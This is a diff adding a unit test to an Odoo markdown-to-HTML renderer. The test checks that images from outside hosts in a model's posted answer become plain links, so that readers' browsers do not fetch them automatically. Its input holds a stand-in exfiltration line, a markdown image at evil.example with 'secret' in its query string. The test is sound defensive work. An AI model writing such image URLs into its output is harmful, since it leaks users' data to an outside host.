@@ -44,3 +44,12 @@ class TestMarkdownHtml(BaseCase):
             "<ul><li>a list</li></ul>")
         self.assertEqual(self.html("Example:\n\n    - indented code"),
                          "<p>Example:</p><pre><code>- indented code</code></pre>")
+
+    def test_an_image_of_another_site_is_a_link(self):
+        """Whoever reads the posted answer would fetch it, with what the model wrote into its
+        URL; this Odoo's own images show."""
+        html = self.html("![chart](/web/image/12) ![leak](https://evil.example/p.png?q=secret)")
+        self.assertIn('<img alt="chart" src="/web/image/12"', html)
+        self.assertNotIn('<img alt="leak"', html)
+        self.assertIn('<a href="https://evil.example/p.png?q=secret" rel="noopener noreferrer" '
+                      'target="_blank">🖼️ leak</a>', html)
